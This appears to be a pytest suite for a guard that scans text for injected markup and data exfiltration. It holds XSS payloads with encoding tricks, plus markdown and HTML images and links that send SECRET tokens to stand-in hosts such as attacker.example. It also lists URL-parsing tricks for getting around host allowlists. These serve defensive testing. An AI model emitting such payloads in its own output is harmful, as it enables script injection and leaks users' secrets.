"""The filter step on crafted markup and exfiltration patterns, nested encodings included."""

from __future__ import annotations

import time

import pytest

from airlock.guard import Action, Decision, FilterConfig, Guard, GuardConfig, Span

ONLY_FILTER = GuardConfig(unicode=None, pii=None)


def rules(text: str, config: GuardConfig = ONLY_FILTER) -> list[str]:
    return [f.rule for f in Guard(config).check(text).findings]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("hi <script>alert(1)</script> there", "filter.html-tag"),
        ("<SCRIPT src=//x></SCRIPT >", "filter.html-tag"),
        ('<iframe src="https://x.example"></iframe>', "filter.html-tag"),
        ("<img src=x onerror=alert(1)>", "filter.html-event-handler"),
        ("<img/onerror=alert(1)/src=x>", "filter.html-event-handler"),  # "/" separates attributes
        ('<img alt=">" onerror="alert(1)">', "filter.html-event-handler"),  # ">" inside quotes
        ('<a href="javascript:alert(1)">x</a>', "filter.script-url"),
        ('<a href="jav&#x61;script:alert(1)">x</a>', "filter.script-url"),  # entity
        ('<a href="java\tscript:alert(1)">x</a>', "filter.script-url"),  # browsers drop the tab
        ("[click](javascript:alert(1))", "filter.script-url"),
        ("[click](%6a%61vascript:alert(1))", "filter.script-url"),  # percent-encoded
        ("[click](&amp;#106;avascript:alert(1))", "filter.script-url"),  # entity inside entity
        ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "filter.script-url"),
        ('<div style="background:url(https://evil.example/?d=1)">', "filter.exfil-image"),
    ],
)
def test_markup_and_script_urls(text: str, rule: str) -> None:
    assert rules(text) == [rule]


def test_markdown_image_exfiltration_is_removed_with_its_span() -> None:
    text = "Summary. ![loading](https://attacker.example/log?q=SECRET_TOKEN) Done."
    result = Guard(ONLY_FILTER).check(text)
    assert result.decision is Decision.REDACTED
    assert result.text == "Summary. «removed» Done."
    (finding,) = result.findings
    assert finding.rule == "filter.exfil-image"
    assert finding.span == Span(9, text.index(")") + 1)
    assert "SECRET" not in finding.reason and "attacker" not in finding.reason


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://attacker.example/c/U0VDUkVUIFRPS0VOIEhFUkUh.png)",  # data in the path, no query
        "![x](//attacker.example/p.png)",  # scheme-relative
        "![a [nested] alt](https://attacker.example/?q=1)",  # brackets inside the alt text
        '![x](<https://attacker.example/a b?q=1> "title")',  # angle-bracket destination
        "![x][r]\n\n[r]: https://attacker.example/?q=SECRET",  # reference-style image
        "![r]\n\n[R]: <https://attacker.example/?q=SECRET>",  # shortcut reference, case-insensitive
        '<img src="https://attacker.example/?q=SECRET">',
        '<img srcset="https://ok.example/a.png 1x, https://attacker.example/?q=1 2x">',
        "![x](https://attacker.example&#47;?q=1)",
        "[![img](https://attacker.example/i.png)](https://docs.example/)",  # an image inside a link
        "![x] [r]\n[r]: https://attacker.example/i.png",  # Markdown.pl allows a space before the label
    ],
)
def test_remote_images_are_exfiltration(text: str) -> None:
    assert "filter.exfil-image" in rules(text)


def test_allowed_hosts_pass_and_subdomain_entries() -> None:
    config = GuardConfig(
        unicode=None, pii=None, filter=FilterConfig(allowed_hosts=frozenset({"img.example", ".cdn.example"}))
    )
    assert rules("![x](https://img.example/a.png?w=10)", config) == []
    assert rules("![x](https://a.cdn.example/a.png?w=10)", config) == []
    assert rules("![x](https://img.example.attacker.example/a.png)", config) == ["filter.exfil-image"]
    assert rules("![x](https://evilcdn.example/a.png)", config) == ["filter.exfil-image"]


@pytest.mark.parametrize(
    "url",
    [
        "https://attacker.example\\@img.example/x.png",  # a browser reads the backslash as a slash
        "https://img.example%2F@attacker.example/x.png",  # %2F is no slash in a host to a browser
        "https://img.example@attacker.example/x.png",  # user info
        "https:attacker.example/x.png",  # no slashes: still a host to a browser
        "\\\\attacker.example/x.png",  # backslashes: scheme-relative to a browser
    ],
)
def test_allowlist_parsing_tricks(url: str) -> None:
    config = GuardConfig(
        unicode=None, pii=None, filter=FilterConfig(allowed_hosts=frozenset({"img.example"}))
    )
    assert rules(f"![x]({url})", config) == ["filter.exfil-image"], url


def test_redirect_through_an_allowed_host_is_judged_by_its_target() -> None:
    config = GuardConfig(
        unicode=None, pii=None, filter=FilterConfig(allowed_hosts=frozenset({"www.google.com"}))
    )
    text = "![x](https://www.google.com/url?q=https%3A%2F%2Fattacker.example%2F%3Fd%3DSECRET)"
    assert rules(text, config) == ["filter.exfil-image"]


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://attacker.example/?q=SECRET)",
        "<https://attacker.example/?q=SECRET>",  # autolink
        "see https://attacker.example/?q=SECRET now",  # bare URL
        "[r]: https://attacker.example/#SECRET",  # reference definition, fragment
        "[x](https://attacker.example/aGVyZSBpcyB0aGUgc2VjcmV0IHRva2Vu)",  # base64 in the path
        '<a href="https://user:pw@attacker.example/">x</a>',
    ],
)
def test_links_carrying_data_are_flagged(text: str) -> None:
    result = Guard(ONLY_FILTER).check(text)
    assert [f.rule for f in result.findings] == ["filter.exfil-link"]
    assert result.decision is Decision.FLAGGED and result.text == text  # FLAG keeps the text


def test_plain_links_and_text_pass() -> None:
    for text in (
        "[docs](https://docs.python.org/3/library/re.html)",
        "see https://example.com/about.",
        "a < b and [1] is a footnote",
        "![logo](logo.png)",  # relative: nothing leaves
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "<b>bold</b> <p class=x>para</p>",
    ):
        assert rules(text) == [], text


def test_removal_cannot_reassemble_markup() -> None:
    result = Guard(ONLY_FILTER).check("<scr<script>x</script>ipt>alert(1)</script>")
    assert result.text is not None and "<script" not in result.text.lower()


def test_block_action_refuses() -> None:
    config = GuardConfig(unicode=None, pii=None, filter=FilterConfig(images=Action.BLOCK))
    assert Guard(config).check("![x](https://attacker.example/?q=1)").decision is Decision.BLOCKED


@pytest.mark.parametrize(
    "piece",
    ["[a](", "![", "<a ", '<a "', "<script>", "[" * 3 + "](", "https://x.example/?", "&#", "%25"],
)
def test_adversarial_repetition_stays_linear(piece: str) -> None:
    text = piece * (100_000 // len(piece))
    started = time.monotonic()
    Guard(GuardConfig(unicode=None, pii=None)).check(text)
    assert time.monotonic() - started < 10  # generous for a loaded 2-core machine; linear is ~0.1 s


@pytest.mark.parametrize(
    "text",
    [
        "![a]\n\n> [a]: https://evil.example/SECRET.png",  # a definition inside a block quote
        "- ![a]\n- [a]: https://evil.example/SECRET.png",  # inside list items
        "![a][r  x]\n\n[R x]: https://evil.example/SECRET.png",  # labels match with white space collapsed
        "![a][\u1e9e]\n\n[ss]: https://evil.example/SECRET.png",  # and Unicode case folding (capital sharp s)
        '<p style="background:u\\rl(https://evil.example/SECRET)">x</p>',  # CSS escapes, as a browser reads them
        '<div style="background:\\75rl(https://evil.example/?d=S)">x</div>',
        '<div style="background:\\000075 rl(https://evil.example/?d=S)">x</div>',
    ],
)
def test_images_loaded_through_spellings_a_browser_or_commonmark_accepts(text: str) -> None:
    result = Guard().check(text)
    assert result.decision is Decision.REDACTED, result.findings
    assert [f.rule for f in result.findings] == ["filter.exfil-image"]


def test_a_reference_definition_that_is_not_an_images_and_plain_css_stay_allowed() -> None:
    for text in ('<p style="color:red">ok</p>', "[note]: not a url", "> quoted [text]: words"):
        assert Guard().check(text).decision is Decision.ALLOWED, text
